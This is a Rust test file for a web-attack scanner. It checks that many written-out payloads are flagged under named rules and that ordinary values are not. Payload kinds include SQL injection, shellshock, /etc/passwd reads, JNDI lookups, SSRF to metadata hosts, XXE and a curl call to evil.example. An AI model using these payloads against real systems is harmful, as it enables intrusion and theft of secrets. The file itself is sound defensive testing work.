use super::*;

fn classes(raw: &str) -> Vec<&'static str> {
    scan_value(raw)
        .classes()
        .into_iter()
        .map(Class::as_str)
        .collect()
}

fn rules(raw: &str) -> Vec<&'static str> {
    scan_value(raw).rules()
}

#[test]
fn each_class_with_its_rule() {
    let cases: &[(&str, &str)] = &[
        ("1' or '1'='1", "sqli.tautology"),
        ("-1 union all select 1,2,version()--", "sqli.union-select"),
        ("admin'--", "sqli.comment-breakout"),
        ("1; drop table users", "sqli.stacked-query"),
        ("1 and sleep(5)", "sqli.time-delay"),
        ("1 and extractvalue(1,concat(0x7e,user()))", "sqli.function"),
        ("%2527%2520or%25201%253D1--", "sqli.tautology"),
        ("{\"$ne\": null}", "nosqli.operator"),
        ("[$ne]=1", "nosqli.operator"),
        ("'; return true; var x='", "nosqli.javascript"),
        (";cat /etc/passwd", "cmdi.separator-command"),
        ("$(whoami)", "cmdi.substitution"),
        ("() { :;}; /bin/bash -c id", "cmdi.shellshock"),
        ("uname -a", "cmdi.command-line"),
        (
            "%0a%1b[2Acurl http://evil.example/x",
            "cmdi.separator-command",
        ),
        ("\\necho x\\n\\033[2Asleep 5\\n", "cmdi.separator-command"),
        ("../../../../etc/passwd", "traversal.dot-dot"),
        ("%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", "traversal.dot-dot"),
        ("c:\\windows\\win.ini", "traversal.sensitive-file"),
        ("<script>alert(1)</script>", "xss.script-tag"),
        ("\" onmouseover=\"alert(1)", "xss.event-handler"),
        ("javascript:alert(document.cookie)", "xss.script-url"),
        ("';alert(String.fromCharCode(88))//", "xss.js-call"),
        ("{{7*7}}", "ssti.expression"),
        (
            "{% for x in ().__class__.__base__.__subclasses__() %}",
            "ssti.statement",
        ),
        (
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "ssti.expression",
        ),
        ("*)(uid=*))(|(uid=*", "ldapi.filter-breakout"),
        ("admin)(|(password=*))", "ldapi.filter-breakout"),
    ];
    for (payload, rule) in cases {
        let got = rules(payload);
        assert!(got.contains(rule), "{payload:?}: want {rule}, got {got:?}");
        let class = rule.split('.').next().unwrap();
        assert!(classes(payload).contains(&class), "{payload:?}");
    }
}

#[test]
fn ordinary_values_are_not_attacks() {
    for v in [
        "O'Brien",
        "rock & roll",
        "select a plan",
        "union station",
        "drop shipping from china",
        "5' 11\" tall",
        "it's 5 o'clock; dinner at 6",
        "https://example.com/a?b=1&c=2",
        "{\"name\":\"Ada\",\"tags\":[\"a\",\"b\"]}",
        "<p>Hello <b>world</b></p>",
        "a < b and c > d",
        "1/2 inch",
        "sleep (8 hours)",
        "*",
        "/",
        "SGVsbG8gd29ybGQ=",
        "2024-05-01T12:30:00Z",
        "Price gt 5 and Name eq 'Milk'",
        "run `make test` first",
        "first line\\nsecond line\\n\\033[1mbold\\033[0m",
    ] {
        let v2 = v.replace(' ', "%20");
        assert!(!scan_value(v).is_attack(), "{v:?}: {:?}", rules(v));
        assert!(!scan_value(&v2).is_attack(), "{v2:?}: {:?}", rules(&v2));
    }
}

#[test]
fn requests_are_judged_where_the_input_is() {
    let headers = [
        ("User-Agent", "() { :;}; /bin/bash -c 'cat /etc/passwd'"),
        ("Cookie", "session=abc; pref=1' or '1'='1"),
        ("X-Request-Id", "1' or '1'='1"),
    ];
    let v = scan_request(&RequestParts {
        target: "/files/..%2f..%2fetc%2fpasswd?q=%3Cscript%3Ealert(1)%3C/script%3E",
        headers: &headers,
        content_type: Some("application/json"),
        body: br#"{"user":{"name":"x","password":{"$gt":""}},"bio":"{{7*'7'}}"}"#,
    });
    let at = |class: Class, location: Location| {
        v.findings
            .iter()
            .any(|f| f.hit.class == class && f.location == location)
    };
    assert!(at(Class::Traversal, Location::Path));
    assert!(at(Class::Xss, Location::Query));
    assert!(at(Class::Cmdi, Location::Header));
    assert!(
        at(Class::Sqli, Location::Header),
        "cookie values are judged"
    );
    assert!(at(Class::Nosqli, Location::Body));
    assert!(at(Class::Ssti, Location::Body));
    // Headers outside the list are not judged.
    let only_id = scan_request(&RequestParts {
        target: "/",
        headers: &[("X-Request-Id", "1' or '1'='1")],
        ..Default::default()
    });
    assert!(!only_id.is_attack());
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(2000))]

    /// Hostile input never panics, in any reading: value, path, headers, JSON and raw bodies.
    #[test]
    fn total_on_any_input(s in ".{0,200}", bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..200)) {
        let _ = scan_value(&s);
        let lossy = String::from_utf8_lossy(&bytes);
        let _ = scan_value(&lossy);
        let target = format!("/{s}?{s}={lossy}");
        let headers = [("User-Agent", s.as_str()), ("Cookie", &*lossy)];
        let _ = scan_request(&RequestParts { target: &target, headers: &headers, content_type: Some("application/json"), body: &bytes });
        let _ = scan_request(&RequestParts { target: &s, headers: &[], content_type: None, body: s.as_bytes() });
    }

    /// Attack-shaped fragments glued to arbitrary text never panic either.
    #[test]
    fn total_on_attack_fragments(a in "[<>'\"();|&$`{}%\\\\*=.!@#a-z0-9 -]{0,80}", b in "\\PC{0,20}") {
        let _ = scan_value(&format!("{a}{b}{a}"));
        let _ = scan_value(&format!("{b}{a}"));
    }
}

#[test]
fn new_classes_with_their_rules() {
    let cases: &[(&str, &str)] = &[
        ("${jndi:ldap://x.example/a}", "java.jndi-lookup"),
        (
            "${${lower:j}ndi:${lower:l}dap://x.example/a}",
            "java.jndi-lookup",
        ),
        ("${${::-j}${::-n}di:rmi://x.example/a}", "java.jndi-lookup"),
        ("${env:AWS_SECRET_ACCESS_KEY}", "java.log4j-lookup"),
        (
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "java.class-reference",
        ),
        (
            "''.getClass().forName('java.lang.Runtime')",
            "java.reflection",
        ),
        (
            "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
            "java.ognl",
        ),
        (
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
            "java.serialized-object",
        ),
        (
            "php://filter/convert.base64-encode/resource=index.php",
            "php.stream-wrapper",
        ),
        ("expect://id", "php.stream-wrapper"),
        (
            "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
            "php.object-injection",
        ),
        ("');phpinfo();//", "php.code-injection"),
        (
            "http://169.254.169.254/latest/meta-data/",
            "ssrf.metadata-host",
        ),
        (
            "http://metadata.google.internal/computeMetadata/v1/",
            "ssrf.metadata-host",
        ),
        ("http://2130706433/", "ssrf.loopback-host"),
        ("http://0x7f000001/admin", "ssrf.loopback-host"),
        ("http://[::ffff:127.0.0.1]:8080/", "ssrf.loopback-host"),
        ("gopher://10.0.0.5:6379/_flushall", "ssrf.scheme"),
        ("file:///etc/passwd", "ssrf.scheme"),
        ("http://evil.example/shell.txt?", "ssrf.remote-include"),
        (
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            "xxe.external-entity",
        ),
        (
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://x.example/e.dtd\"> %p;]>",
            "xxe.parameter-entity",
        ),
        (
            "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></r>",
            "xxe.xinclude",
        ),
        ("%0d%0aSet-Cookie:%20sid=attacker", "crlf.header-injection"),
        (
            "/%E5%98%8A%E5%98%8DLocation:%20http://evil.example",
            "crlf.header-injection",
        ),
        ("x%0d%0a%0d%0aHTTP/1.1%20200%20OK", "crlf.message-split"),
        ("__proto__[isAdmin]=true", "prototype.proto-key"),
        (
            "a[constructor][prototype][isAdmin]=1",
            "prototype.constructor-prototype",
        ),
        ("<!--#exec cmd=\"id\" -->", "ssi.exec"),
        ("<!--#include virtual=\"/etc/passwd\" -->", "ssi.directive"),
        ("<esi:include src=\"http://x.example/\"/>", "ssi.esi-tag"),
    ];
    for (payload, rule) in cases {
        let got = rules(payload);
        assert!(got.contains(rule), "{payload:?}: want {rule}, got {got:?}");
        let class = rule.split('.').next().unwrap();
        assert!(classes(payload).contains(&class), "{payload:?}");
        assert_eq!(Class::parse(class).map(Class::as_str), Some(class));
    }
}

#[test]
fn new_classes_leave_ordinary_values_alone() {
    for v in [
        "https://shop.example.com:8443/products/42?ref=home",
        "http://10.0.0.5:8080/health",
        "https://example.com/index.php",
        "${user.name}",
        "com.example.order.created",
        "Location: Berlin\nDate: tomorrow",
        "Sale & more",
        "{\"matrix\": [[1, 2], [3, 4]], \"nested\": {\"a\": {\"b\": {}}}}",
        "constructor",
        "prototype design",
        "a:2 b:3",
    ] {
        assert!(!scan_value(v).is_attack(), "{v:?}: {:?}", rules(v));
    }
}

#[test]
fn client_tool_agents_are_not_injections_but_payloads_in_agents_are() {
    for ua in [
        "curl/8.5.0",
        "Wget/1.21.4 (linux-gnu)",
        "python-requests/2.32.3",
        "Go-http-client/1.1",
        "okhttp/4.12.0",
        "PostmanRuntime/7.36.0",
        "Apache-HttpClient/4.5.14 (Java/17.0.2)",
        "axios/1.6.2",
        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
        "libwww-perl/6.72",
        "HTTPie/3.2.2",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
    ] {
        let mut v = Verdict::default();
        scan_header("User-Agent", ua, &mut v);
        assert!(!v.is_attack(), "{ua:?}: {:?}", v.rules());
    }
    // The scanner stays a suspicious agent (a separate label).
    assert_eq!(
        crate::agents::suspicious("sqlmap/1.7.2#stable (https://sqlmap.org)"),
        Some("scanner:sqlmap")
    );
    for ua in [
        "curl/8.5.0; cat /etc/passwd",
        "() { :;}; /bin/bash -c id",
        "${jndi:ldap://x.example/a}",
        "Mozilla/5.0 (X11; $(cat /etc/passwd))",
    ] {
        let mut v = Verdict::default();
        scan_header("User-Agent", ua, &mut v);
        assert!(v.is_attack(), "{ua:?}");
    }
}

#[test]
fn markup_documents_are_judged_as_documents() {
    let body = |ct: Option<&str>, b: &str| {
        let mut v = Verdict::default();
        scan_body(ct, b.as_bytes(), &mut v);
        v
    };
    let note = "<?xml version=\"1.0\"?><note><to>Tove</to><from>Jani</from><heading>Reminder</heading><body>Don't forget me this weekend!</body></note>";
    assert!(
        !body(None, note).is_attack(),
        "{:?}",
        body(None, note).rules()
    );
    assert!(!body(Some("application/xml"), note).is_attack());
    let page = "<html><head><link rel=\"stylesheet\" href=\"/a.css\"></head><body><p>Hi <a href=\"https://x.example\">x</a></p></body></html>";
    assert!(!body(Some("text/html"), page).is_attack());
    // What documents must still catch: external entities, script, handlers, script URLs, and
    // injections in their text.
    let cases = [
        (
            "<?xml version=\"1.0\"?><!DOCTYPE n [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><n>&x;</n>",
            "xxe.external-entity",
        ),
        (
            "<?xml version=\"1.0\"?><n><script>alert(1)</script></n>",
            "xss.script-tag",
        ),
        (
            "<html><body><img src=x onerror=\"alert(1)\"></body></html>",
            "xss.event-handler",
        ),
        (
            "<html><body><a href=\"javascript:alert(1)\">x</a></body></html>",
            "xss.script-url",
        ),
        (
            "<?xml version=\"1.0\"?><login><user>admin' or '1'='1</user></login>",
            "sqli.tautology",
        ),
    ];
    for (doc, rule) in cases {
        let ct = if doc.starts_with("<html") {
            Some("text/html")
        } else {
            None
        };
        let v = body(ct, doc);
        assert!(
            v.rules().contains(&rule),
            "{doc:?}: want {rule}, got {:?}",
            v.rules()
        );
    }
    // JSON is never markup by its braces.
    let json = r#"{"matrix":[[1,2],[3,4]],"a":{"b":{"c":{}}},"html":"<p>Hello <b>world</b></p>"}"#;
    assert!(!body(Some("application/json"), json).is_attack());
    assert!(!scan_value(json).is_attack());
}

#[test]
fn smuggling_signs_over_the_header_set() {
    let judge = |headers: &[(&str, &str)]| {
        let mut v = Verdict::default();
        scan_headers(headers, &mut v);
        v.rules()
    };
    assert!(
        judge(&[("Content-Length", "13"), ("Transfer-Encoding", "chunked")])
            .contains(&"protocol.cl-te-conflict")
    );
    assert!(
        judge(&[("Content-Length", "13"), ("Content-Length", "7")])
            .contains(&"protocol.content-length-conflict")
    );
    for te in ["xchunked", "chunked, identity", "\tchunked", "\"chunked\""] {
        assert!(
            judge(&[("Transfer-Encoding", te)]).contains(&"protocol.obfuscated-transfer-encoding"),
            "{te:?}"
        );
    }
    assert!(
        judge(&[("Transfer-Encoding ", "chunked")]).contains(&"protocol.malformed-header-name")
    );
    // A framing header hidden after a line break inside another header's value.
    let hidden = judge(&[
        ("Content-Length", "4"),
        ("X", "X\nTransfer-Encoding: chunked"),
    ]);
    assert!(
        hidden.contains(&"protocol.hidden-framing-header"),
        "{hidden:?}"
    );
    assert!(hidden.contains(&"protocol.cl-te-conflict"), "{hidden:?}");
    // A line break before an ordinary header is not framing (other rules judge the value).
    assert!(judge(&[("X-Note", "a\nX-Other: b")]).is_empty());
    // Ordinary header sets.
    assert!(
        judge(&[
            ("Content-Length", "13"),
            ("Content-Type", "application/json")
        ])
        .is_empty()
    );
    assert!(judge(&[("Transfer-Encoding", "chunked")]).is_empty());
    assert!(judge(&[("Transfer-Encoding", "gzip, chunked")]).is_empty());
    // Whole requests carry the check.
    let v = scan_request(&RequestParts {
        target: "/",
        headers: &[("Content-Length", "4"), ("Transfer-Encoding", "chunked")],
        ..Default::default()
    });
    assert!(v.classes().contains(&Class::Protocol));
}
